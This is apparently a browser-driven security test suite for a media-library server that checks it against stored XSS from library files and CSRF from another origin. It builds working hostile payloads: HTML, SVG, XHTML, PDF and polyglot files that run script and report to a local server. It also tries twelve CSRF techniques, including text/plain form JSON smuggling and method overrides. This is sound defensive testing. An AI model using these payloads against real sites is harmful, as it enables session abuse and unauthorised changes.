import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test'
import { join } from 'node:path'
import type { Browser } from 'playwright-core'
import { ROUTE_TABLE } from '../route-table.ts'
import { launchBrowser, openPage } from '../support/browser.ts'
import type { HttpClient, Json } from '../support/http-client.ts'
import { makeTree } from '../support/library-tree.ts'
import { type TemporaryFolder, temporaryFolder } from '../support/temporary-folder.ts'
import { ADMIN, startServer, type TestServer, USER_PASSWORD, waitFor } from '../support/test-server.ts'

/** A machine that is busy with other tests takes its time. */
setDefaultTimeout(180_000)

/** SECURITY.md, A "Stored XSS by file" and C "CSRF", as a real browser sees them. */

let folder: TemporaryFolder
let server: TestServer
let admin: HttpClient
let browser: Browser
let mixedId: number
/** What hostile scripts report to, and the origin of hostile pages; the port alone makes it another origin of the same site. */
let foreign: Bun.Server<undefined>
let reports: string[] = []

/** Whatever a script can do when it runs: say so to its maker, with what it can read. */
const SCRIPT = (name: string, to: string): string =>
  `fetch('${to}/report?${name}', { mode: 'no-cors' }); new Image().src = '${to}/report?image-${name}'; alert('${name}')`

/** Twenty-five files of a library, each of which runs a script where it is shown as what it is. */
const hostileFiles = (to: string): Record<string, string> => {
  const script = (name: string): string => SCRIPT(name, to)
  const html = (name: string): string =>
    `<!doctype html><html><body onload="${script(name).replaceAll('"', '&quot;')}"><script>${script(name)}</script></body></html>`
  const svg = (name: string): string =>
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${script(name)}"><script>${script(name)}</script><image href="${to}/report?svg-${name}"/></svg>`
  const xhtml = (name: string): string =>
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[${script(name)}]]></script></body></html>`
  const styled = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${to}/report?xsl"?><a/>`
  const pdf = `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${to}/report?pdf)>>/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj trailer<</Root 1 0 R>>`
  return {
    ...Object.fromEntries(
      [
        'a.html',
        'b.htm',
        'c.HTML',
        'd.shtml',
        'e.xht',
        'polyglot.jpg',
        'polyglot.png',
        'polyglot.gif',
        'film.mp4',
        'sound.mp3',
        'notes.txt',
        'subtitles.vtt',
        'read.md',
        'movie.nfo',
        'no ending',
        'f.jpg.html',
      ].map((name) => [name, html(name)]),
    ),
    ...Object.fromEntries(['a.svg', 'b.SVG', 'picture.webp'].map((name) => [name, svg(name)])),
    ...Object.fromEntries(['a.xhtml', 'b.xml'].map((name) => [name, xhtml(name)])),
    ...{
      'styled.xml': styled,
      'paper.pdf': pdf,
      'code.js': script('code.js'),
      'page.mhtml': `MIME-Version: 1.0\nContent-Type: text/html\n\n${html('mhtml')}`,
    },
  }
}

const TYPES: Record<string, string> = { html: 'text/html', svg: 'image/svg+xml', xhtml: 'application/xhtml+xml', xml: 'application/xml' }

beforeAll(async () => {
  folder = await temporaryFolder('hostile')
  foreign = Bun.serve({
    port: 0,
    hostname: '0.0.0.0',
    fetch: (request) => {
      const { pathname, search } = new URL(request.url)
      if (pathname === '/report') reports.push(search)
      const file = hostileFiles(`http://127.0.0.1:${foreign.port}`)[pathname.slice(1)]
      const type = file ? (TYPES[pathname.split('.').at(-1) ?? ''] ?? 'text/plain') : 'text/html'
      return new Response(file ?? '<!doctype html><title>evil</title>', { headers: { 'content-type': type } })
    },
  })
  makeTree(folder.path, { mixed: hostileFiles(`http://127.0.0.1:${foreign.port}`) })
  server = await startServer({ libraries: [{ type: 'mixed', path: join(folder.path, 'mixed') }] })
  await server.waitForScans()
  admin = await server.as('admin')
  mixedId = (await admin.get('/api/libraries')).body.libraries[0].id
  browser = await launchBrowser()
})
afterAll(async () => {
  await browser.close()
  await foreign.stop(true)
  await server.stop()
  await folder.remove()
})

const fileUrl = (name: string): string => `${server.url}/api/files?${new URLSearchParams({ itemKey: `mixed_file:${mixedId}:${name}` })}`

/** A page that tells of dialogs, signed in as the administrator. */
const openWatched = async () => {
  const opened = await openPage(browser, { url: server.url, client: admin })
  const dialogs: string[] = []
  opened.page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  return { ...opened, dialogs }
}

/** Goes there; a download is not a page, and says so by throwing. */
const visit = (page: Json, url: string): Promise<unknown> => page.goto(url, { waitUntil: 'load', timeout: 5000 }).catch(() => undefined)

describe('a file of a library', () => {
  test('would run its script on a server that takes it for what it is', async () => {
    const { page, dialogs, close } = await openWatched()
    reports = []
    for (const name of ['a.html', 'a.svg', 'a.xhtml']) await visit(page, `http://127.0.0.1:${foreign.port}/${name}`)
    await waitFor(
      () => (dialogs.length >= 3 && reports.length >= 3) || undefined,
      60_000,
      () => `There were only ${JSON.stringify([dialogs, reports])}`,
    )
    await close()
  })

  test('runs nothing when it is opened', async () => {
    const names = Object.keys(hostileFiles(''))
    expect(names).toHaveLength(25)
    const { page, dialogs, close } = await openWatched()
    reports = []
    for (const name of names) await visit(page, fileUrl(name))
    await page.waitForTimeout(300)
    await close()
    expect([dialogs, reports]).toEqual([[], []])
  })

  test('runs nothing when a page of ours uses it as script, style, frame, object or picture', async () => {
    const { page, dialogs, close } = await openWatched()
    reports = []
    await page.goto(`${server.url}/api/docs`)
    await page.evaluate(
      (urls) => {
        for (const url of urls)
          for (const [tag, attribute] of [
            ['script', 'src'],
            ['img', 'src'],
            ['iframe', 'src'],
            ['embed', 'src'],
            ['object', 'data'],
            ['video', 'src'],
            ['link', 'href'],
          ] as const) {
            const element = document.createElement(tag)
            if (tag === 'link') element.setAttribute('rel', 'stylesheet')
            element.setAttribute(attribute, url)
            document.body.append(element)
          }
      },
      Object.keys(hostileFiles('')).map(fileUrl),
    )
    await page.waitForTimeout(1500)
    await close()
    expect([dialogs, reports]).toEqual([[], []])
  })
})

/** A body for each unsafe route with which it would do something. */
const bodyFor = (path: string): Json => {
  if (path.startsWith('/api/users')) return { username: 'evil', password: 'evil password', role: 'admin' }
  if (path === '/api/libraries') return { name: 'Evil', type: 'mixed', path: join(folder.path, 'elsewhere') }
  if (path.startsWith('/api/libraries/')) return { name: 'Evil' }
  if (path === '/api/auth/password') return { currentPassword: ADMIN.password, newPassword: 'evil password' }
  if (path === '/api/auth/login') return { username: 'victim', password: USER_PASSWORD }
  if (path === '/api/auth/tokens') return { name: 'evil' }
  if (path === '/api/user-settings') return { theme: 'light' }
  return { itemKey: `mixed_file:${mixedId}:a.html`, libraryId: mixedId, completed: true, name: 'Evil' }
}

const state = async (): Promise<Json> => {
  const paths = [
    '/api/users',
    '/api/libraries',
    '/api/auth/tokens',
    '/api/auth/me',
    '/api/user-settings',
    '/api/scans',
    `/api/browse?libraryId=${mixedId}`,
  ]
  const answers = await Promise.all(paths.map((path) => admin.get(path)))
  // The background may find out meanwhile that a picture can be made, or cannot.
  return answers.map(({ body }, index) => [
    paths[index],
    body.entries ? { ...body, entries: body.entries.map((entry: Json) => ({ ...entry, thumbnailUrl: null, thumbhash: null })) } : body,
  ])
}

describe('a page of another origin', () => {
  test('changes nothing, in none of twelve ways, on no route', async () => {
    makeTree(folder.path, { elsewhere: {} })
    const victim = await server.as('victim')
    const { user } = (await victim.get('/api/auth/me')).body
    const { id: tokenId } = (await admin.post('/api/auth/tokens', { name: 'mine' })).body
    const { sessions } = (await admin.get('/api/auth/sessions')).body
    await admin.patch('/api/user-settings', { theme: 'dark' })
    const idFor = (path: string): string | number =>
      path.includes('users') ? user.id : path.includes('tokens') ? tokenId : path.includes('sessions') ? sessions[0].id : 1
    const targets = ROUTE_TABLE.filter(({ method }) => method !== 'GET').map(({ method, path }) => ({
      method,
      url: server.url + path.replace(':id', String(idFor(path))),
      body: JSON.stringify(bodyFor(path)),
    }))
    const before = await state()
    // Of the same site, so that its requests carry the cookie: from another one SameSite alone would stop them.
    const origin = `http://127.0.0.1:${foreign.port}`
    const { page, close } = await openWatched()
    const cookies = await page.context().cookies()
    await page.goto(`${origin}/`)
    const tried = await page.evaluate(async (all) => {
      let count = 0
      const attempt = async (act: () => unknown): Promise<void> => {
        count += 1
        await Promise.resolve()
          .then(act)
          .catch(() => undefined)
      }
      const submit = (action: string, encoding: string, fields: Record<string, string>): Promise<void> =>
        new Promise((resolve) => {
          const frame = document.createElement('iframe')
          frame.name = `frame${Math.random()}`
          document.body.append(frame)
          const form = document.createElement('form')
          Object.assign(form, { action, method: 'POST', enctype: encoding, target: frame.name })
          for (const [name, value] of Object.entries(fields)) form.append(Object.assign(document.createElement('input'), { name, value }))
          document.body.append(form)
          frame.addEventListener('load', () => resolve())
          form.submit()
          setTimeout(resolve, 1000)
        })
      const attemptAll = async ({ method, url, body }: (typeof all)[number]): Promise<void> => {
        const included = { method, body, credentials: 'include' } as const
        await attempt(() => fetch(url, { ...included, method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' } }))
        await attempt(() => fetch(url, { ...included, headers: { 'content-type': 'application/json' } }))
        await attempt(() => fetch(url, { ...included, mode: 'cors' }))
        await attempt(() => fetch(url, { ...included, method: 'POST', mode: 'no-cors', keepalive: true }))
        await attempt(() =>
          fetch(url, { ...included, method: 'POST', mode: 'no-cors', body: new Blob([body], { type: 'application/json' }) }),
        )
        await attempt(() => {
          const request = new XMLHttpRequest()
          request.open(method, url, false)
          request.withCredentials = true
          request.setRequestHeader('content-type', 'text/plain')
          request.send(body)
        })
        await attempt(() => navigator.sendBeacon(url, new Blob([body], { type: 'text/plain' })))
        await attempt(() => navigator.sendBeacon(url, new Blob([body], { type: 'application/json' })))
        const split = body.slice(0, -1)
        await attempt(() => submit(url, 'text/plain', { [`${split},"x":"`]: '"}' }))
        await attempt(() => submit(url, 'application/x-www-form-urlencoded', { ...JSON.parse(body), _method: method }))
        await attempt(() => submit(`${url}?_method=${method}`, 'multipart/form-data', JSON.parse(body)))
        await attempt(
          () =>
            new Promise((resolve) => Object.assign(new Image(), { onload: resolve, onerror: resolve, src: `${url}?_method=${method}` })),
        )
      }
      await Promise.all(all.map(attemptAll))
      return count
    }, targets)
    expect(tried).toBe(12 * targets.length)
    await page.waitForTimeout(200)
    expect(await page.context().cookies()).toEqual(cookies)
    await close()
    expect(await state()).toEqual(before)
    expect((await victim.get('/api/auth/me')).status).toBe(200)
  })

  test('cannot read an answer, show us in a frame, or reach our window', async () => {
    const { page, close } = await openWatched()
    await page.goto(`http://127.0.0.1:${foreign.port}/`)
    const seen = await page.evaluate(async (url) => {
      const read = await fetch(`${url}/api/libraries`, { credentials: 'include' }).then(
        (response) => response.text(),
        () => 'refused',
      )
      const opaque = await fetch(`${url}/api/libraries`, { credentials: 'include', mode: 'no-cors' }).then(
        (response) => response.type,
        () => 'refused',
      )
      const frame = document.createElement('iframe')
      frame.src = url
      const isLoaded = new Promise((resolve) => frame.addEventListener('load', resolve))
      document.body.append(frame)
      await isLoaded
      const opened = window.open(`${url}/`)
      await new Promise((resolve) => setTimeout(resolve, 500))
      return { read, opaque, frames: frame.contentWindow?.length ?? 0, isCut: opened?.closed ?? true }
    }, server.url)
    const framed = page.frames().filter((frame) => frame.url().startsWith(server.url))
    await close()
    expect(seen).toEqual({ read: 'refused', opaque: 'refused', frames: 0, isCut: true })
    expect(framed).toEqual([])
  })
})

test('the page of the description works, and asks no other host', async () => {
  const { page, problems, close } = await openPage(browser, { url: server.url, client: admin })
  await page.goto(`${server.url}/api/docs`)
  await page.getByRole('heading', { name: 'browse' }).click()
  await page.getByText('/api/browse', { exact: true }).first().waitFor()
  await close()
  expect(problems).toEqual([])
})
